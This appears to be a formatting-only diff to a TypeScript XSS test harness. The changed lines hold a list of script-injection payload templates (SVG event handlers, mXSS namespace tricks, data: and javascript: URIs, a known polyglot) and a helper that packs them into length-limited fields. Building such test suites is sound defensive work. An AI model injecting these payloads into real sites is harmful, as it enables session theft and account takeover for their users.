@@ -89,8 +89,14 @@ const HTML: readonly Template[] = [
   ['svg set onbegin', (n) => `<svg><set onbegin=${call(n)} attributeName=x to=1>`],
   ['svg discard onbegin', (n) => `<svg><discard onbegin=${call(n)}>`],
   ['svg xlink:href javascript:', (n) => `<svg><a xlink:href="javascript:${call(n)}"><text x=20 y=20>xss ${n}</text></a></svg>`],
-  ['svg animate href to javascript:', (n) => `<svg><a><animate attributeName=href values=javascript:${call(n)} /><text x=20 y=20>xss ${n}</text></a></svg>`],
-  ['svg foreignObject iframe srcdoc', (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call(n)}</script>"></iframe></foreignObject></svg>`],
+  [
+    'svg animate href to javascript:',
+    (n) => `<svg><a><animate attributeName=href values=javascript:${call(n)} /><text x=20 y=20>xss ${n}</text></a></svg>`,
+  ],
+  [
+    'svg foreignObject iframe srcdoc',
+    (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call(n)}</script>"></iframe></foreignObject></svg>`,
+  ],
   ['math href', (n) => `<math href="javascript:${call(n)}">xss ${n}</math>`],
   ['mXSS math/mtext/mglyph/style', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}>`],
   ['mXSS form/math namespace confusion', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(n)}>`],
@@ -125,7 +131,10 @@ const HTML: readonly Template[] = [
   ['object data: html', (n) => `<object data="data:text/html;base64,${base64(`<script>${call(n)}</script>`)}"></object>`],
   ['object onerror', (n) => `<object data=x onerror=${call(n)}></object>`],
   ['embed javascript:', (n) => `<embed src="javascript:${call(n)}">`],
-  ['embed data: svg', (n) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"/>`)}">`],
+  [
+    'embed data: svg',
+    (n) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"/>`)}">`,
+  ],
   ['anchor javascript:', (n) => `<a href="javascript:${call(n)}">xss ${n}</a>`],
   ['anchor mixed-case javascript:', (n) => `<a href="JaVaScRiPt:${call(n)}">xss ${n}</a>`],
   ['anchor entity-encoded scheme', (n) => `<a href="&#106;avascript:${call(n)}">xss ${n}</a>`],
@@ -140,13 +149,20 @@ const HTML: readonly Template[] = [
   ['style @import javascript:', (n) => `<style>@import 'javascript:${call(n)}';</style>`],
   ['link stylesheet javascript:', (n) => `<link rel=stylesheet href="javascript:${call(n)}">`],
   ['meta refresh to javascript:', (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`],
-  ['meta refresh to data:', (n) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${call(n)}</script>`)}">`],
+  [
+    'meta refresh to data:',
+    (n) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${call(n)}</script>`)}">`,
+  ],
   ['base href javascript:', (n) => `<base href="javascript:${call(n)}//">`],
   ['table background javascript:', (n) => `<table background="javascript:${call(n)}"><td>xss ${n}</td></table>`],
   ['div onmouseover', (n) => `<div onmouseover="${call(n)}">xss ${n}</div>`],
   ['page-covering onpointerover', (n) => `<div onpointerover=${call(n)} style=position:fixed;inset:0;z-index:9999>xss ${n}</div>`],
   ['paragraph onclick', (n) => `<p onclick=${call(n)}>xss ${n}</p>`],
-  ['polyglot (0xsobky)', (n) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call(n)}//>\\x3e`],
+  [
+    'polyglot (0xsobky)',
+    (n) =>
+      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call(n)}//>\\x3e`,
+  ],
   ['javascript: as plain text', (n) => `javascript:${call(n)}`],
   ['percent-encoded markup', (n) => `%3Cscript%3E${call(n)}%3C%2Fscript%3E`],
   ['entity-encoded markup', (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`],
@@ -204,7 +220,12 @@ export const URL_VECTORS = XSS_VECTORS.filter((vector) => vector.kind === 'url')
  * Packs vectors into strings of at most `maxLength` characters (joined by a space), taking them in
  * order from `start` and wrapping around, e.g. to fill length-limited titles with as many as fit.
  */
-export function packVectors(vectors: readonly XssVector[], maxLength: number, start: number, prefix = ''): { text: string; ids: number[]; next: number } {
+export function packVectors(
+  vectors: readonly XssVector[],
+  maxLength: number,
+  start: number,
+  prefix = '',
+): { text: string; ids: number[]; next: number } {
   let text = prefix
   const ids: number[] = []
   let index = start
